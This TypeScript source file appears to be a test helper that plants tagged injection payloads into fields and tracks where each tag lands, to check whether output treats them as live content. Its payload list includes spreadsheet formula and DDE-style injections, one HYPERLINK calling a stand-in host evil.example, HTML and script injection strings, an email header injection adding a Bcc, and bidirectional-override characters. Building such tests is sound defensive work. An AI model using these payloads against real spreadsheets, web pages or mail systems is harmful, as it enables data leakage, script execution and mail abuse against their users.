/** What is planted: texts that would do something if any output took them for more than text, each with a tag of its own. */
export const TAG = /ZQ\d+Z/;
export const tagged = (text: string): boolean => TAG.test(text);

/** By what they attack: formulas, markup, headers of mails, direction, what spreadsheet programs take for formulas besides. */
const PAYLOADS: readonly ((tag: string) => string)[] = [
  (tag) => `=HYPERLINK("http://evil.example/${tag}";"${tag}")`,
  (tag) => `<img src=x onerror="${tag}"><script>${tag}</script>`,
  (tag) => `${tag}\r\nBcc: evil@example.com`,
  (tag) => `+${tag}|' /C calc'!A0`,
  (tag) => `"><a href="javascript:${tag}">${tag}</a>`,
  (tag) => `\u202E${tag}\u2066`,
  (tag) => `@SUM(1)*${tag}`,
  (tag) => `\u200B=${tag}`,
  (tag) => `</textarea><svg onload='${tag}'>`,
  (tag) => `＝${tag}`,
  (tag) => `-2+3+${tag}`,
  (tag) => `$& $' {p} ${tag}`,
];

export interface Planter {
  /** The next payload, of a new tag, that `fits`; null where none does. */
  next(place: string, fits?: (text: string) => boolean): string | null;
  /** Place of every tag. */
  readonly places: ReadonlyMap<string, string>;
}

export function planter(): Planter {
  const places = new Map<string, string>();
  return {
    places,
    next(place, fits = () => true) {
      const count = places.size;
      const tag = `ZQ${count}Z`;
      const turned = PAYLOADS.map((_, at) => PAYLOADS[(count + at) % PAYLOADS.length]?.(tag) ?? '');
      const found = turned.find(fits) ?? null;
      if (found !== null) places.set(tag, place);
      return found;
    },
  };
}

/** As it is typed so that the cell holds this very text. */
export const asTyped = (text: string): string => `'${text}`;
